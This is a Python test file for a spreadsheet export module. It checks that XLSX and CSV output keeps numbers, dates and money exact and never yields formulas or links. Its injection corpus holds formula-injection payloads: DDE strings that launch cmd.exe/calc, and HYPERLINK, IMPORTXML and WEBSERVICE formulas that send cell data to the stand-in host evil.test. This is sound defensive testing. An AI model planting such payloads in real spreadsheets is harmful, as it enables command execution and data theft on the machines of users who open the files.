"""A table opened in a spreadsheet is numbers, dates and texts, and never runs anything."""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
import zipfile
from decimal import Decimal
from typing import TYPE_CHECKING, Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from qaitar.documents import tables
from qaitar.documents.tables import CellKind, Column, WrongCell, iter_csv, write_xlsx

if TYPE_CHECKING:
    from collections.abc import Sequence
    from pathlib import Path

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\x00=",
    "＝",
    "＋",
    "－",
    "＠",
    "−",
    " =",
    "\u00a0=",
    "\ufeff=",
    "\u200b=",
    '"=',
    "|",
    "%",
]
PAYLOADS = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.test/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.test/",A2),"//a")',
    'WEBSERVICE("http://evil.test")',
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "",
]
INJECTIONS = [start + payload for start in STARTS for payload in PAYLOADS] + [
    "http://evil.test", "mailto:a@b.kz", "internal:Sheet2!A1", "external:c:\\x.xlsx#A1", "{=1+1}", "'=1+1", "1e5", "007", "TRUE",
]  # fmt: skip
COLUMNS = [
    Column("Заявка"),
    Column("Сумма", CellKind.MONEY),
    Column("Штук", CellKind.INTEGER),
    Column("Доля", CellKind.DECIMAL),
    Column("День", CellKind.DATE),
    Column("Время", CellKind.MOMENT, zone=ZoneInfo("Asia/Almaty")),
]
ROW = [
    "301234567-1",
    -123456,
    -3,
    Decimal("-0.125"),
    dt.date(2026, 1, 31),
    dt.datetime(2026, 1, 31, 20, 5, tzinfo=dt.UTC),
]


def _cells(path: Path) -> list[list[Any]]:
    book = load_workbook(path)
    return [list(row) for sheet in book.worksheets for row in sheet.iter_rows()]


def test_over_the_injection_corpus_no_cell_is_a_formula_or_a_link(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"

    assert write_xlsx(
        path, [Column("=1+1"), Column("b")], [(text, "ok") for text in INJECTIONS]
    ) == len(INJECTIONS)

    cells = [cell for row in _cells(path) for cell in row]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    assert [cell for cell in cells if cell.hyperlink] == []
    parts = zipfile.ZipFile(path)
    assert b"<f>" not in b"".join(parts.read(name) for name in parts.namelist())
    quoted = [cell for cell in cells if cell.column == 1 and cell.row > 1]
    assert [
        cell.value
        for cell in quoted
        if tables.is_formula_like(str(cell.value)) and not cell.quotePrefix
    ] == []


def test_over_the_injection_corpus_no_csv_field_starts_like_a_formula() -> None:
    written = "".join(iter_csv([Column("a")], [(text,) for text in INJECTIONS]))
    fields = [row[0] for row in csv.reader(io.StringIO(written[1:], newline=""), delimiter=";")][1:]

    assert len(fields) == len(INJECTIONS)
    dangerous = set("=+-@\t\r\n\x00＝＋－＠−|%")
    assert [f for f in fields if f.lstrip(' \u00a0\ufeff\u200b"')[:1] in dangerous] == []
    assert [f.removeprefix("'") for f in fields if f != "'=1+1"] == [
        t for t in INJECTIONS if t not in {"=1+1", "'=1+1"}
    ]


def test_numbers_stay_numbers_dates_stay_dates_and_money_is_exact(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_xlsx(path, COLUMNS, [ROW, [None] * 6, ROW], "Возвраты")

    book = load_workbook(path)
    sheet = book["Возвраты"]
    header, first, empty, last = list(sheet.iter_rows())
    assert [cell.value for cell in header] == ["Заявка", "Сумма", "Штук", "Доля", "День", "Время"]
    assert [cell.value for cell in first] == [
        "301234567-1", -1234.56, -3, -0.125, dt.datetime.fromisoformat("2026-01-31"), dt.datetime.fromisoformat("2026-02-01T01:05"),
    ]  # fmt: skip
    assert [cell.data_type for cell in first] == ["s", "n", "n", "n", "d", "d"]
    assert first[1].number_format == '#,##0.00\\ "₸"'
    assert [cell.value for cell in empty] == [None] * 6
    assert [cell.value for cell in last] == [cell.value for cell in first]
    assert sheet.freeze_panes == "A2"


def test_the_same_row_in_csv_has_bare_numbers_and_the_currency_in_the_heading() -> None:
    assert list(iter_csv(COLUMNS, [ROW, [None] * 6])) == [
        "\ufeffЗаявка;Сумма, KZT;Штук;Доля;День;Время\r\n",
        "301234567-1;-1234,56;-3;-0,125;2026-01-31;2026-02-01 01:05\r\n",
        ";;;;;\r\n",
    ]


def test_a_field_with_separators_and_line_breaks_survives_csv() -> None:
    text = 'a;b"c\nd\r\ne'
    written = "".join(iter_csv([Column("x"), Column("y")], [(text, 1)]))

    assert list(csv.reader(io.StringIO(written[1:], newline=""), delimiter=";"))[1] == [text, "1"]


@pytest.mark.parametrize(
    ("column", "value"),
    [
        (Column("a", CellKind.MONEY), 1.5),
        (Column("a", CellKind.MONEY), Decimal(1)),
        (Column("a", CellKind.MONEY), True),
        (Column("a", CellKind.INTEGER), "7"),
        (Column("a", CellKind.INTEGER), 10**15 + 1),
        (Column("a", CellKind.DECIMAL), Decimal("NaN")),
        (Column("a", CellKind.DATE), dt.datetime(2026, 1, 1, tzinfo=dt.UTC)),
        (Column("a", CellKind.MOMENT), dt.datetime(2026, 1, 1)),  # noqa: DTZ001  a time without zone is the case
        (Column("a", CellKind.TEXT), 0.1),
    ],
)
def test_a_cell_that_does_not_fit_its_column_is_our_mistake_and_leaves_no_file(
    column: Column, value: object, tmp_path: Path
) -> None:
    with pytest.raises(WrongCell):
        write_xlsx(tmp_path / "t.xlsx", [column], [(value,)])
    with pytest.raises(WrongCell):
        list(iter_csv([column], [(value,)]))
    assert list(tmp_path.iterdir()) == []


def test_a_row_of_another_width_is_refused(tmp_path: Path) -> None:
    rows: Sequence[Sequence[object]] = [("a", "b"), ("a",)]
    with pytest.raises(WrongCell):
        write_xlsx(tmp_path / "t.xlsx", [Column("a"), Column("b")], rows)
    with pytest.raises(WrongCell):
        list(iter_csv([Column("a"), Column("b")], rows))


def test_odd_characters_and_endless_texts_still_give_a_readable_file(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    texts = ["\ud800", "a\x00b\x1bc", "x" * 40_000, "Қайтар 😀", "_x0041_", "\ufffe"]
    write_xlsx(path, [Column("a")], [(text,) for text in texts])

    values = [row[0].value for row in _cells(path)][1:]
    assert values[0] == "\ufffd"
    assert values[1] == "a\ufffdb\ufffdc"
    assert values[2] == "x" * 32_766 + "…"
    assert values[3] == "Қайтар 😀"
    assert values[5] == "\ufffd"
    assert "".join(iter_csv([Column("a")], [("\ud800",)])).encode() == "\ufeffa\r\n?\r\n".encode()


def test_rows_beyond_one_sheet_go_on_in_the_next(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tables, "SHEET_ROWS_MAX", 4)
    path = tmp_path / "t.xlsx"

    assert write_xlsx(path, [Column("n", CellKind.INTEGER)], ([n] for n in range(7)), "A/B?*") == 7

    book = load_workbook(path)
    assert [[cell.value for cell in sheet["A"]] for sheet in book.worksheets] == [
        ["n", 0, 1, 2],
        ["n", 3, 4, 5],
        ["n", 6],
    ]
    assert book.sheetnames == ["A B", "A B (2)", "A B (3)"]


def test_an_existing_file_is_replaced_whole_or_not_touched(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    path.write_bytes(b"before")

    def rows() -> list[list[object]]:
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        write_xlsx(path, [Column("a")], (row for row in rows()))
    assert path.read_bytes() == b"before"
    write_xlsx(path, [Column("a")], [("x",)])
    assert [row[0].value for row in _cells(path)] == ["a", "x"]


PEAK = """
import resource, sys
from pathlib import Path
from qaitar.documents.tables import CellKind, Column, write_xlsx
columns = [Column("a"), Column("b"), Column("c", CellKind.MONEY)]
write_xlsx(Path(sys.argv[1]), columns, ([f"row {n}", "=1+1", n] for n in range(int(sys.argv[2]))))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
"""


@pytest.mark.slow
def test_memory_stays_flat_for_two_hundred_thousand_rows(tmp_path: Path) -> None:
    def peak_mb(rows: int) -> int:
        done = subprocess.run(
            [sys.executable, "-c", PEAK, str(tmp_path / "t.xlsx"), str(rows)],
            capture_output=True, text=True, check=True, env={"PYTHONPATH": "src"},
        )  # fmt: skip
        return int(done.stdout)

    assert peak_mb(200_000) - peak_mb(2_000) <= 16
